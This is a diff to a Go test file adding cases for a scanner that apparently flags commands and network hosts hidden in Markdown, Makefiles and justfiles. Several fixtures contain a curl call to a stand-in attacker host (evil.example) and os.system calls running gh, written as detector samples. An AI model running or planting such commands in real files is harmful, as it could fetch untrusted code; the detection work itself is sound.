@@ -33,6 +33,17 @@ func TestRecipes(t *testing.T) {
 		{"Makefile=.SHELLFLAGS := -c x\n", "dynamic-exec"},
 		{"Makefile=include $(DIR)/x\ninclude config.mk\n", "dynamic-exec"},
 		{"Makefile=$(eval $(call f,a))\n", "dynamic-exec"},
+		// prose
+		{"a.md=<pre><code>curl https://evil.example/x</code></pre>\n", "run:curl net:evil.example"},
+		{"a.md=<pre lang=\"python\">\nimport os\nos.system(&quot;gh&quot;)\n</pre>\n", "run:gh"},
+		{"a.md=Run <code>curl https://evil.example/x</code> now.\n", "run:curl net:evil.example"},
+		{"a.md=<pre>\nsome output\n</pre>\n<code>value</code>\n", ""},
+		{"a.md=> ```sh\n> curl https://evil.example/x\n> ```\n> text\n", "run:curl net:evil.example"},
+		{"a.md=> - x\n> > ```python\n> > import os\n> > os.system('gh')\n> > ```\n", "run:gh"},
+		{"a.md=> ```sh\n> gh a\nplain evil\n", "run:gh"},
+		{"a.md=Run `./setup`.\n|setup=gh a\n", "run:bash run:gh"},
+		{"a.md=```\n./setup now\n```\n|setup=gh a\n", "run:bash run:gh"},
+		{"a.md=See `./notes.txt` and `./LICENSE`.\n|notes.txt=gh a\n|LICENSE=gh a\n", ""},
 		// just
 		{"justfile=set shell := [\"bash\", \"-c\"]\nv := `gh api`\nx arg:\n    @curl https://j.example/{{arg}}\n", "run:curl run:gh net:j.example"},
 		{"justfile=x:\n  #!/usr/bin/env python3\n  import os\n  os.system('gh')\n", "run:gh"},
